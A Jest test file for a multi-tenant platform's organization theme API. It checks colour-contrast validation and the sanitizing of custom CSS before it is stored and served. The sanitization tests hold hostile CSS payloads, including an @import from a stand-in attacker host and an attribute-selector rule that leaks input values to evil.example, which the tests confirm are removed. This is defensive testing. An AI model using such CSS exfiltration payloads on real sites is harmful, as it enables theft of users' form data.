import { beforeAll, describe, expect, it } from '@jest/globals';
import { ZOrganizationDetails } from '@propdesk/shared/contracts';
import { bearer, createTestAccount, signInAs, TEST_TOTP_SECRET } from '../../test/auth-fixtures.ts';
import { TEST_DRIVERS } from '../../test/databases.ts';
import { useTestApp } from '../../test/use-test-app.ts';
import { AuditEvent } from '../audit/index.ts';
import { Organization } from '../tenancy/index.ts';

/** A platform admin changes a firm's theme: what is stored is readable and safe to serve. */
describe.each(TEST_DRIVERS)('organization theme (%s)', (driver) => {
  const handle = useTestApp(driver, 'organization_theme');
  let admin: { authorization: string } = { authorization: '' };
  let organizationId = '';

  beforeAll(async () => {
    const em = handle.database().orm.em.fork();
    const email = `theme.admin.${driver}@example.com`;
    await createTestAccount(em, { email, role: 'admin', portalType: null });
    const organization = em.create(Organization, { slug: 'theme-firm', name: 'Theme Firm' });
    await em.flush();
    organizationId = organization.id;
    admin = bearer(
      (await signInAs(handle.app(), { email, portal: 'admin', totpSecret: TEST_TOTP_SECRET })).accessToken,
    );
  });

  const patch = (id: string, payload: Record<string, unknown>) =>
    handle.app().inject({ method: 'PATCH', url: `/api/organizations/${id}`, payload, headers: admin });
  const stored = () => handle.database().orm.em.fork().findOneOrFail(Organization, organizationId);

  it('refuses unreadable colours, naming the field to change, and keeps the theme as it was', async () => {
    const greyOnGrey = await patch(organizationId, {
      theme: { textColor: '#9ca3af', backgroundColor: '#f3f4f6' },
    });
    expect(greyOnGrey.statusCode).toBe(400);
    expect(greyOnGrey.json()).toMatchObject({
      error: {
        code: 'VALIDATION_ERROR',
        details: { issues: [{ path: '/theme/textColor', code: 'low_contrast' }] },
      },
    });
    // A mid-tone primary gets white button text at barely 3:1.
    const midTone = await patch(organizationId, { theme: { primaryColor: '#e0457b' } });
    expect(midTone.statusCode).toBe(400);
    expect(midTone.json()).toMatchObject({
      error: { details: { issues: [{ path: '/theme/primaryColor', code: 'low_contrast' }] } },
    });
    // One colour of a pair is judged with the stored other: a dark background breaks the stored dark text.
    const darkPage = await patch(organizationId, { theme: { backgroundColor: '#111827' } });
    expect(darkPage.statusCode).toBe(400);
    expect((await stored()).backgroundColor).toBe('#f8fafc');
    // Both changed together read well.
    const darkTheme = await patch(organizationId, {
      theme: { backgroundColor: '#111827', textColor: '#f9fafb' },
    });
    expect(darkTheme.statusCode).toBe(200);
  });

  it('refuses an unreadable theme when an organization is created', async () => {
    const response = await handle.app().inject({
      method: 'POST',
      url: '/api/organizations',
      payload: {
        name: 'Pale Firm',
        slug: 'pale-firm',
        theme: { primaryColor: '#fde68a', textColor: '#fef3c7' },
      },
      headers: admin,
    });
    expect(response.statusCode).toBe(400);
    expect(await handle.database().orm.em.fork().count(Organization, { slug: 'pale-firm' })).toBe(0);
  });

  it('stores custom CSS only sanitized: scoped, without its hostile parts, the count audited', async () => {
    const response = await patch(organizationId, {
      theme: {
        customCss:
          '@import url(https://evil.example/x.css);\n.hero { color: #123456; position: fixed }\n' +
          'input[value^="a"] { background: url(https://evil.example/?a) }',
      },
    });
    expect(response.statusCode).toBe(200);
    const sanitized = '[data-organization-content] .hero{color:#123456}';
    expect(ZOrganizationDetails.parse(response.json()).theme.customCss).toBe(sanitized);
    const em = handle.database().orm.em.fork();
    expect((await stored()).customCss).toBe(sanitized);
    const audit = await em.find(
      AuditEvent,
      { action: 'organization_updated' },
      { orderBy: { createdAt: 'desc' } },
    );
    expect(audit[0]?.details).toMatchObject({ fields: ['theme'], customCssRemoved: 3 });
    // Nothing safe left is no stylesheet at all.
    const emptied = await patch(organizationId, {
      theme: { customCss: '@import "https://evil.example/y.css";' },
    });
    expect(ZOrganizationDetails.parse(emptied.json()).theme.customCss).toBeNull();
  });

  it('serves the stylesheet as text/css, sanitized again as it leaves (a row written by hand included)', async () => {
    const stylesheet = () =>
      handle.app().inject({ method: 'GET', url: '/api/public/organizations/theme-firm/custom.css' });
    // Written straight into the database, around every check.
    await handle.database().orm.em.fork().nativeUpdate(
      Organization,
      { id: organizationId },
      {
        customCss: '@import url(https://evil.example/x.css); .cta { color: #0f766e; position: fixed }',
      },
    );
    const served = await stylesheet();
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('text/css; charset=utf-8');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    // The portal's pages link it from other origins (the shell's, firms' domains).
    expect(served.headers['cross-origin-resource-policy']).toBe('cross-origin');
    expect(served.body).toBe('[data-organization-content] .cta{color:#0f766e}');
    await handle
      .database()
      .orm.em.fork()
      .nativeUpdate(Organization, { id: organizationId }, { customCss: null });
    expect((await stylesheet()).body).toBe('');
    const unknown = await handle
      .app()
      .inject({ method: 'GET', url: '/api/public/organizations/nobody/custom.css' });
    expect(unknown.statusCode).toBe(404);
  });
});
